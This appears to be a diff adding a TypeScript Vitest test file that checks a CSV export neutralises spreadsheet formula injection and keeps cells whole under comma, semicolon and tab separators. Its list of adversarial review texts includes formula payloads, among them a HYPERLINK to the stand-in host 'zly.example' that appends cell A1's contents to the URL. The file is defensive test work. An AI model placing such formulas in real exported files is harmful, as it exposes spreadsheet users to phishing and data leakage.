@@ -1,0 +1,85 @@
+import { describe, expect, it } from "vitest";
+import { csvCell, csvHeader, csvRow } from "./export.ts";
+
+/**
+ * How a spreadsheet reads a CSV line with a given list separator: quoted fields (RFC 4180,
+ * `""` for a quote) and bare fields split at the separator. Excel takes the separator from the
+ * locale: `,` in English, `;` in Polish; a tab when text is pasted.
+ */
+function splitLine(line: string, separator: string): string[] {
+  const fields: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let index = 0; index < line.length; index++) {
+    const char = line[index]!;
+    if (quoted) {
+      if (char === '"' && line[index + 1] === '"') {
+        field += '"';
+        index++;
+      } else if (char === '"') quoted = false;
+      else field += char;
+    } else if (char === '"' && field === "") quoted = true;
+    else if (char === separator) {
+      fields.push(field);
+      field = "";
+    } else field += char;
+  }
+  fields.push(field);
+  return fields;
+}
+
+/** Review texts written to become formulas or to break a row apart. */
+const ADVERSARIAL = [
+  "x;=HYPERLINK(\"http://zly.example\";\"Kliknij\")",
+  "dobra cena;-2+3",
+  "a;@SUM(A1:A9)",
+  "tab\t=1+1",
+  "przecinek,=1+1",
+  '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")',
+  "+48 601 000 000",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "\t=1+1",
+  "\r=1+1",
+  'cytat "w środku"; =1',
+  "linia\n=1+1",
+  " =1+1",
+  "zwykły tekst",
+];
+
+describe("CSV cells", () => {
+  it.each([",", ";", "\t"])("stay one cell each and never start a formula with the list separator %j", (separator) => {
+    const row = ADVERSARIAL.map(csvCell).join(",");
+    // The export's own separator is the comma; a Polish Excel splits the same line at `;`, and
+    // what it shows must still be whole cells: quoted ones are never split.
+    for (const cell of ADVERSARIAL) {
+      const written = csvCell(cell);
+      const fields = splitLine(written, separator);
+      expect(fields, `${JSON.stringify(cell)} split at ${JSON.stringify(separator)}`).toHaveLength(1);
+      expect(fields[0]!, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    if (separator === ",") {
+      const fields = splitLine(row, ",");
+      expect(fields).toHaveLength(ADVERSARIAL.length);
+      fields.forEach((field, index) => expect(field.replace(/^'/, "")).toBe(ADVERSARIAL[index]));
+    }
+  });
+
+  it("quotes a cell with a semicolon, as a Polish Excel needs", () => {
+    expect(csvCell("a;=1+1")).toBe('"a;=1+1"');
+    expect(csvCell("a\tb")).toBe('"a\tb"');
+  });
+
+  it("keeps plain text and numbers bare and neutralises formulas", () => {
+    expect(csvCell("zwykły tekst")).toBe("zwykły tekst");
+    expect(csvCell(-0.5)).toBe("-0.5");
+    expect(csvCell("=1+1")).toBe("'=1+1");
+    expect(csvCell(undefined)).toBe("");
+  });
+
+  it("writes a mention's row with as many cells as the header", () => {
+    const row = csvRow({ id: "x", title: "Tytuł; =1+1", text: "tekst\tz tabem, przecinkiem; średnikiem", topics: ["a", "b"] });
+    expect(splitLine(row.trimEnd(), ",")).toHaveLength(splitLine(csvHeader().trimEnd(), ",").length);
+    expect(row).toContain('"Tytuł; =1+1"');
+  });
+});
